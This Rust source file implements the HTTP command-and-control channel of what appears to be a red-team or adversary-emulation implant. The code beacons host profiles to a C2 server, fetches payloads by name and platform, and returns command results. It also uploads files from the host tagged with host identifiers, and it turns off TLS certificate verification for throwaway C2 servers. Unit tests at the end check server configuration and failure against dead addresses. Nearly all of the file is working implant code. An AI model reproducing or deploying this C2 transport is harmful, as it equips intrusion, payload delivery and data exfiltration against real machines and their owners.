use async_trait::async_trait;
use base64::prelude::*;
use log::warn;
use serde_json::Value;
use std::collections::HashMap;
use std::sync::RwLock;

use super::{Contact, ContactConfig};
use crate::errors::{AgentError, Result};
use crate::instructions::ExecutionResult;

const BEACON_ENDPOINT: &str = "/beacon";
const DOWNLOAD_ENDPOINT: &str = "/file/download";
const UPLOAD_ENDPOINT: &str = "/file/upload";

pub const HTTP_CONTACT_NAME: &str = "HTTP";

/// Default HTTP transport. Bodies on the beacon endpoint are
/// base64(JSON(profile)) both ways. Certificate verification is off so the
/// agent works against throwaway C2 infrastructure.
pub struct HttpContact {
    name: String,
    client: reqwest::Client,
    upstream_dest: RwLock<String>,
}

impl HttpContact {
    pub fn new(http_proxy_gateway: &str) -> Self {
        let mut builder = reqwest::Client::builder().danger_accept_invalid_certs(true);
        if !http_proxy_gateway.is_empty() {
            match reqwest::Proxy::all(http_proxy_gateway) {
                Ok(proxy) => builder = builder.proxy(proxy),
                Err(e) => warn!("Invalid HTTP proxy gateway `{}`: {}", http_proxy_gateway, e),
            }
        }
        Self {
            name: HTTP_CONTACT_NAME.to_string(),
            // Building with these options cannot fail.
            client: builder.build().unwrap_or_default(),
            upstream_dest: RwLock::new(String::new()),
        }
    }

    fn upstream(&self) -> String {
        self.upstream_dest.read().map(|s| s.clone()).unwrap_or_default()
    }

    // One beacon-style round trip: POST base64(data), return decoded body.
    async fn request(&self, address: &str, data: &[u8]) -> Option<Vec<u8>> {
        let encoded = BASE64_STANDARD.encode(data);
        let response = match self.client.post(address).body(encoded).send().await {
            Ok(r) => r,
            Err(e) => {
                warn!("Failed to perform HTTP request: {}", e);
                return None;
            }
        };
        if !response.status().is_success() {
            warn!("HTTP request to {} returned {}", address, response.status());
            return None;
        }
        let body = match response.text().await {
            Ok(b) => b,
            Err(e) => {
                warn!("Failed to read HTTP response: {}", e);
                return None;
            }
        };
        match BASE64_STANDARD.decode(body.trim()) {
            Ok(decoded) => Some(decoded),
            Err(e) => {
                warn!("Failed to decode HTTP response: {}", e);
                None
            }
        }
    }
}

#[async_trait]
impl Contact for HttpContact {
    async fn get_beacon_bytes(&self, profile: &Value) -> Option<Vec<u8>> {
        let data = match serde_json::to_vec(profile) {
            Ok(d) => d,
            Err(e) => {
                warn!("Cannot request beacon, profile marshal failed: {}", e);
                return None;
            }
        };
        let address = format!("{}{}", self.upstream(), BEACON_ENDPOINT);
        self.request(&address, &data).await
    }

    async fn get_payload_bytes(&self, profile: &Value, payload: &str) -> (Vec<u8>, String) {
        let platform = profile
            .get("platform")
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        let address = format!("{}{}", self.upstream(), DOWNLOAD_ENDPOINT);
        let response = match self
            .client
            .post(&address)
            .header("file", payload)
            .header("platform", platform)
            .send()
            .await
        {
            Ok(r) => r,
            Err(e) => {
                warn!("Failed to fetch payload {}: {}", payload, e);
                return (Vec::new(), String::new());
            }
        };
        if !response.status().is_success() {
            return (Vec::new(), String::new());
        }
        let filename = response
            .headers()
            .get("filename")
            .and_then(|v| v.to_str().ok())
            .unwrap_or(payload)
            .to_string();
        match response.bytes().await {
            Ok(bytes) => (bytes.to_vec(), filename),
            Err(e) => {
                warn!("Error reading payload response: {}", e);
                (Vec::new(), String::new())
            }
        }
    }

    async fn send_execution_results(&self, profile: &Value, result: &ExecutionResult) {
        let mut body = profile.clone();
        let Some(map) = body.as_object_mut() else {
            warn!("Cannot send results with a non-object profile");
            return;
        };
        match serde_json::to_value(result) {
            Ok(encoded) => {
                map.insert("results".to_string(), Value::Array(vec![encoded]));
            }
            Err(e) => {
                warn!("Cannot send results, marshal failed: {}", e);
                return;
            }
        }
        let address = format!("{}{}", self.upstream(), BEACON_ENDPOINT);
        let data = body.to_string();
        let _ = self.request(&address, data.as_bytes()).await;
    }

    async fn upload_file_bytes(
        &self,
        profile: &Value,
        upload_name: &str,
        data: &[u8],
    ) -> Result<()> {
        let address = format!("{}{}", self.upstream(), UPLOAD_ENDPOINT);
        let paw = profile
            .get("paw")
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        let host = profile
            .get("host")
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        let part = reqwest::multipart::Part::bytes(data.to_vec()).file_name(upload_name.to_string());
        let form = reqwest::multipart::Form::new().part("file", part);
        let response = self
            .client
            .post(&address)
            .header("X-Paw", paw)
            .header("X-Host", host)
            .multipart(form)
            .send()
            .await
            .map_err(|e| AgentError::Upload(e.to_string()))?;
        if response.status().is_success() {
            Ok(())
        } else {
            Err(AgentError::Upload(format!(
                "upload of {} returned {}",
                upload_name,
                response.status()
            )))
        }
    }

    fn c2_requirements_met(
        &self,
        profile: &Value,
        _config: &ContactConfig,
    ) -> (bool, Option<HashMap<String, String>>) {
        let server_set = profile
            .get("server")
            .and_then(Value::as_str)
            .map(|s| !s.is_empty())
            .unwrap_or(false);
        (server_set, None)
    }

    fn set_upstream_dest_addr(&self, addr: &str) {
        if let Ok(mut upstream) = self.upstream_dest.write() {
            *upstream = addr.trim_end_matches('/').to_string();
        }
    }

    fn get_name(&self) -> String {
        self.name.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn requirements_need_a_server() {
        let contact = HttpContact::new("");
        let config = ContactConfig::default();
        let (ok, mods) = contact.c2_requirements_met(&json!({"server": "http://c2"}), &config);
        assert!(ok);
        assert!(mods.is_none());

        let (ok, _) = contact.c2_requirements_met(&json!({"server": ""}), &config);
        assert!(!ok);
        let (ok, _) = contact.c2_requirements_met(&json!({}), &config);
        assert!(!ok);
    }

    #[test]
    fn upstream_dest_is_normalized() {
        let contact = HttpContact::new("");
        contact.set_upstream_dest_addr("http://10.0.0.2:8888/");
        assert_eq!(contact.upstream(), "http://10.0.0.2:8888");
    }

    #[tokio::test]
    async fn beacon_against_dead_upstream_is_none() {
        let contact = HttpContact::new("");
        contact.set_upstream_dest_addr("http://127.0.0.1:1");
        let result = contact.get_beacon_bytes(&json!({"paw": "p"})).await;
        assert!(result.is_none());
    }

    #[tokio::test]
    async fn payload_fetch_against_dead_upstream_is_empty() {
        let contact = HttpContact::new("");
        contact.set_upstream_dest_addr("http://127.0.0.1:1");
        let (bytes, name) = contact
            .get_payload_bytes(&json!({"platform": "linux"}), "tool.sh")
            .await;
        assert!(bytes.is_empty());
        assert!(name.is_empty());
    }
}
